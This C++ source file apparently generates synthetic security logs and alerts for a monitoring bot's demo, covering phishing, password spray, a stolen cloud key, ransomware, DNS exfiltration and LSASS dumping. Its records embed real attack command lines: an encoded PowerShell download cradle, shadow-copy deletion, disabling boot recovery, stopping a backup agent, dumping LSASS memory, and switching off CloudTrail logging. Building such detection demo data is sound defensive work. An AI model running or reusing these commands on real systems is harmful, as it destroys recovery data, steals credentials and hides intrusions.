#include <fmt/format.h>

#include "bot/app/demo/detectors.hpp"
#include "bot/app/demo/routines.hpp"
#include "bot/app/demo/stories.hpp"

namespace vedette::app::demo {
namespace {

using std::chrono::minutes;
using std::chrono::seconds;

// A mail with a link, a document with a macro, encoded PowerShell, a beacon, a run key.
Scene phishing(const Company& company, Random& random, Time at) {
  Records make(company, random);
  const auto& victim = company.someone_in(Department::finance, 1);
  const std::string control = "203.0.113.66";
  const std::string word = R"(C:\Program Files\Microsoft Office\Office16\WINWORD.EXE)";
  const Process macro = {
      victim.workstation,
      victim.login,
      routine::kPowerShell,
      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
      word,
      R"("WINWORD.EXE" /n "C:\Users\Public\Downloads\Freight_Claim_8841.docm")"};
  Scene scene;
  scene.logs = {
      make.mail_received(at - minutes(9), "claims@harbour-1ines.example", victim.mail, "Freight claim 8841: answer today",
                         "https://harbour-1ines.example/claim/8841"),
      make.web_request(at - minutes(6), victim, "harbour-1ines.example", "/claim/8841", 200),
      make.dns_query(at - minutes(6), victim.workstation_ip, "harbour-1ines.example", control),
      make.file_created(at - minutes(5), victim.workstation, victim.login, R"(C:\Program Files\Mozilla Firefox\firefox.exe)",
                        R"(C:\Users\Public\Downloads\Freight_Claim_8841.docm)"),
      make.process_started(at - seconds(20), macro),
      make.network_connection(at - seconds(15), victim.workstation, victim.login, routine::kPowerShell,
                              victim.workstation_ip, control, 443),
      make.process_started(at - seconds(12), {victim.workstation, victim.login, R"(C:\Windows\System32\whoami.exe)",
                                              "whoami /all", routine::kPowerShell, macro.command_line}),
      make.process_started(at - seconds(9),
                           {victim.workstation, victim.login, R"(C:\Windows\System32\net.exe)",
                            R"(net group "Domain Admins" /domain)", routine::kPowerShell, macro.command_line}),
      make.registry_set(at - seconds(5), victim.workstation, victim.login, routine::kPowerShell,
                        R"(HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveSync)",
                        R"(C:\Users\Public\sync.exe)"),
      make.flow(at - seconds(3), victim.workstation_ip, control, 443, 18'400, 2'210'000)};
  scene.alerts = {wazuh_process_alert(random, at, macro, victim.workstation_ip, 92'057, 12,
                                      "Powershell.exe spawned a powershell process which executed a base64 encoded command",
                                      "T1059.001")};
  return scene;
}

// Many accounts tried from one address, one lets it in; then a forwarding rule.
Scene password_spray(const Company& company, Random& random, Time at) {
  Records make(company, random);
  const std::string address = "203.0.113.201";
  const auto& victim = company.someone_in(Department::people, 2);
  Scene scene;
  Time when = at - minutes(14);
  for (const auto& person : company.people) {
    if (person.login == victim.login) continue;
    scene.logs.push_back(make.sign_in(when, person.login, address, "SC", false, "python-requests/2.32"));
    when += seconds(11);
  }
  scene.logs.push_back(make.sign_in(at - minutes(5), victim.login, address, "SC", false, "python-requests/2.32"));
  scene.logs.push_back(make.sign_in(at - minutes(4), victim.login, address, "SC", true, "python-requests/2.32"));
  scene.logs.push_back(
      make.mailbox_rule(at - minutes(2), victim.login, address, "move everything about invoices to RSS feeds"));
  scene.alerts = {sentinel_alert(random, at, "Password spray", "High",
                                 "One address tried many accounts with few passwords; one sign-in succeeded.", victim.login,
                                 company.domain, address, "T1110.003")};
  return scene;
}

// An engineer's access key used from elsewhere: looking round, making another key, switching the trail off.
Scene stolen_key(const Company& company, Random& random, Time at) {
  Records make(company, random);
  const auto& victim = company.someone_in(Department::engineering, 0);
  const std::string address = "203.0.113.140";
  const std::string agent = "Boto3/1.34.1 md/Botocore#1.34.1 ua/2.0 os/linux";
  const auto call = [&](Time time, const std::string& service, const std::string& name, const Fields& parameters,
                        const std::string& error = {}) {
    return make.cloud_call(time, victim.login, victim.access_key, address, agent, service, name, parameters, error);
  };
  Scene scene;
  scene.logs = {call(at - minutes(8), "sts", "GetCallerIdentity", {}),
                call(at - minutes(7), "iam", "ListUsers", {}, "AccessDenied"),
                call(at - minutes(7), "iam", "ListAttachedUserPolicies", {{"userName", victim.login}}),
                call(at - minutes(6), "s3", "ListBuckets", {}),
                call(at - minutes(5), "secretsmanager", "GetSecretValue", {{"secretId", "prod/db"}}, "AccessDenied"),
                call(at - minutes(4), "secretsmanager", "GetSecretValue", {{"secretId", "prod/mail"}}),
                call(at - minutes(3), "iam", "CreateAccessKey", {{"userName", victim.login}}),
                call(at - minutes(1), "cloudtrail", "StopLogging", {{"name", "halden-trail"}})};
  scene.alerts = {guardduty_finding(random, at, company, "Stealth:IAMUser/CloudTrailLoggingDisabled", 8.0,
                                    "CloudTrail logging was disabled by " + victim.login, victim.login, victim.access_key,
                                    address, "cloudtrail", "StopLogging")};
  return scene;
}

// From a workstation over the file server: a service, shadow copies removed, the log emptied.
Scene ransomware(const Company& company, Random& random, Time at) {
  Records make(company, random);
  const auto& victim = company.someone_in(Department::operations, 0);
  const auto& server = company.server("fs-01");
  const Process shadows = {server.name,
                           victim.login,
                           R"(C:\Windows\System32\vssadmin.exe)",
                           "vssadmin.exe delete shadows /all /quiet",
                           R"(C:\Windows\Temp\svcupd.exe)",
                           R"(C:\Windows\Temp\svcupd.exe -go)"};
  Scene scene;
  scene.logs = {
      make.logon(at - minutes(6), server.name, victim.login, victim.workstation_ip, 3, true),
      make.service_installed(at - minutes(5), server.name, victim.login, "PSEXESVC", R"(C:\Windows\PSEXESVC.exe)"),
      make.file_created(at - minutes(5), server.name, victim.login, R"(C:\Windows\PSEXESVC.exe)",
                        R"(C:\Windows\Temp\svcupd.exe)"),
      make.process_started(at - minutes(4), {server.name, victim.login, R"(C:\Windows\Temp\svcupd.exe)",
                                             R"(C:\Windows\Temp\svcupd.exe -go)", R"(C:\Windows\PSEXESVC.exe)", ""}),
      make.process_started(at - minutes(3), {server.name, victim.login, R"(C:\Windows\System32\net.exe)",
                                             "net stop CofferAgent /y", R"(C:\Windows\Temp\svcupd.exe)", ""}),
      make.process_started(at - seconds(30), shadows),
      make.process_started(at - seconds(20),
                           {server.name, victim.login, R"(C:\Windows\System32\bcdedit.exe)",
                            "bcdedit /set {default} recoveryenabled no", R"(C:\Windows\Temp\svcupd.exe)", ""}),
      make.log_cleared(at - seconds(5), server.name, victim.login)};
  scene.alerts = {
      wazuh_process_alert(random, at - seconds(28), shadows, server.ip, 92'034, 14, "Volume shadow copies deleted", "T1490"),
      wazuh_windows_alert(random, at, server.name, server.ip, 1102, 63'103, 10, "Windows audit log was cleared", "T1070.001",
                          {{"subjectUserName", victim.login}, {"subjectDomainName", company.windows_domain}})};
  return scene;
}

// Data leaves in the names of DNS queries, then in one long upload.
Scene exfiltration(const Company& company, Random& random, Time at) {
  Records make(company, random);
  const auto& host = company.server("db-01");
  const std::string sink = "203.0.113.99";
  Scene scene;
  for (int i = 0; i < 60; ++i) {
    scene.logs.push_back(
        make.dns_query(at - minutes(10) + seconds(i * 8), host.ip, random.hex(48) + ".d.qx7-sync.example", ""));
  }
  scene.logs.push_back(make.flow(at - minutes(1), host.ip, sink, 443, 734'003'200, 51'200));
  scene.alerts = {suricata_alert(random, at, host.ip, sink, 443, 2'027'757,
                                 "ET TROJAN DNS tunnelling, long TXT queries to one domain", "A Network Trojan was detected",
                                 1, {{"dns.query.rrname", "d.qx7-sync.example"}})};
  return scene;
}

// The credential store of a computer is read by a renamed tool.
Scene credential_theft(const Company& company, Random& random, Time at) {
  Records make(company, random);
  const auto& admin = company.someone_in(Department::it, 3);
  const std::string tool = R"(C:\Users\Public\procview.exe)";
  const std::string store = R"(C:\Windows\System32\lsass.exe)";
  const Process run = {admin.workstation,
                       admin.login,
                       tool,
                       R"(C:\Users\Public\procview.exe -accepteula -ma lsass.exe C:\Users\Public\m.dmp)",
                       R"(C:\Windows\System32\cmd.exe)",
                       ""};
  Scene scene;
  scene.logs = {make.logon(at - minutes(12), admin.workstation, admin.login,
                           company.someone_in(Department::finance, 1).workstation_ip, 3, true),
                make.file_created(at - minutes(6), admin.workstation, admin.login, R"(C:\Windows\System32\cmd.exe)", tool),
                make.process_started(at - seconds(40), run),
                make.process_accessed(at - seconds(38), admin.workstation, admin.login, tool, store, "0x1fffff"),
                make.file_created(at - seconds(30), admin.workstation, admin.login, tool, R"(C:\Users\Public\m.dmp)")};
  scene.alerts = {elastic_alert(random, at, "LSASS memory was dumped", "critical",
                                "process event with process procview.exe, target lsass.exe, created critical alert.",
                                "T1003.001",
                                {{"host.name", admin.workstation},
                                 {"user.name", admin.login},
                                 {"process.name", "procview.exe"},
                                 {"process.executable", tool},
                                 {"process.command_line", run.command_line},
                                 {"process.parent.name", "cmd.exe"}})};
  return scene;
}

}  // namespace

std::vector<Story> attacks() {
  return {{"phishing", true, phishing},
          {"password spray", true, password_spray},
          {"stolen access key", true, stolen_key},
          {"ransomware", true, ransomware},
          {"exfiltration", true, exfiltration},
          {"credential theft", true, credential_theft}};
}

}  // namespace vedette::app::demo
